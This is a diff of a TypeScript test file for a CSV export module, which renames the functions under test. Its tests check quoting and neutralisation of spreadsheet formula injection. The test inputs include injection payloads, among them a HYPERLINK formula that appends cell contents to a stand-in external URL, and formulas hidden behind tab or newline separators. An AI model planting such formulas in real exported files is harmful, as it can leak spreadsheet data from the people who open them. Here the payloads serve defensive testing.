@@ -1,22 +1,22 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, test } from 'vitest';
-import { csvOf, plainCell } from './csv.ts';
+import { formatCsv, unescapeCell } from './csv.ts';
 
 const cellsOf = (text: string): string[][] => parse(text, { bom: true });
 
-describe('csvOf', () => {
+describe('formatCsv', () => {
   test('writes RFC 4180 with a byte order mark, and quotes what needs it', () => {
-    const text = csvOf(['name', 'price'], [['Elise "S", 2005', 48_500.5]]);
+    const text = formatCsv(['name', 'price'], [['Elise "S", 2005', 48_500.5]]);
     expect(text).toBe('\ufeffname,price\r\n"Elise ""S"", 2005",48500.5\r\n');
   });
 
   test('line breaks, other separators and blanks at the ends stay in their cell', () => {
     const row = ['one\r\ntwo', 'a;b', ' padded ', '', 'Zürich 🚗'];
-    expect(cellsOf(csvOf(['a', 'b', 'c', 'd', 'e'], [row]))[1]).toEqual(row);
+    expect(cellsOf(formatCsv(['a', 'b', 'c', 'd', 'e'], [row]))[1]).toEqual(row);
   });
 
   test('nothing is an empty cell, and flags are words', () => {
-    expect(csvOf(['a', 'b', 'c'], [[null, true, false]])).toBe('\ufeffa,b,c\r\n,true,false\r\n');
+    expect(formatCsv(['a', 'b', 'c'], [[null, true, false]])).toBe('\ufeffa,b,c\r\n,true,false\r\n');
   });
 
   const formulas = [
@@ -33,9 +33,9 @@ describe('csvOf', () => {
     '=HYPERLINK("https://x.example?"&A1,"a")',
   ];
   test.each(formulas)('fault 28: %j is made harmless, and comes back as it was', (text) => {
-    const [, [cell] = []] = cellsOf(csvOf(['name'], [[text]]));
+    const [, [cell] = []] = cellsOf(formatCsv(['name'], [[text]]));
     expect(cell).toBe(`'${text}`);
-    expect(plainCell(cell ?? '')).toBe(text);
+    expect(unescapeCell(cell ?? '')).toBe(text);
   });
 
   test.each([
@@ -46,24 +46,24 @@ describe('csvOf', () => {
     '\t=1',
     '\n- one\n- two|-three',
   ])('fault 28: %j is harmless also where cells are split at something else', (text) => {
-    const written = csvOf(['id', 'message'], [[7, text]]);
+    const written = formatCsv(['id', 'message'], [[7, text]]);
     expect(written.split(/[;|\t\r\n]/).filter((cell) => /^[\s"]*[=+\-@]/.test(cell))).toEqual([]);
-    expect(plainCell(cellsOf(written)[1]?.[1] ?? '')).toBe(text);
+    expect(unescapeCell(cellsOf(written)[1]?.[1] ?? '')).toBe(text);
   });
 
   test('fault 28: a formula in the middle of a text is left alone', () => {
-    expect(csvOf(['a'], [['three - one = two; and more']])).toBe(
+    expect(formatCsv(['a'], [['three - one = two; and more']])).toBe(
       '\ufeffa\r\n"three - one = two; and more"\r\n',
     );
   });
 
   test('fault 28: a header is a cell like any other', () => {
-    expect(csvOf(['=1'], [])).toBe("\ufeff'=1\r\n");
+    expect(formatCsv(['=1'], [])).toBe("\ufeff'=1\r\n");
   });
 
   test.each(["'t was", "O'Neil", '', "'", '2005 =', -500])('%j needs no apostrophe', (cell) => {
-    const [, [written] = []] = cellsOf(csvOf(['a', 'b'], [[cell, 'x']]));
+    const [, [written] = []] = cellsOf(formatCsv(['a', 'b'], [[cell, 'x']]));
     expect(written).toBe(String(cell));
-    expect(plainCell(String(cell))).toBe(String(cell));
+    expect(unescapeCell(String(cell))).toBe(String(cell));
   });
 });
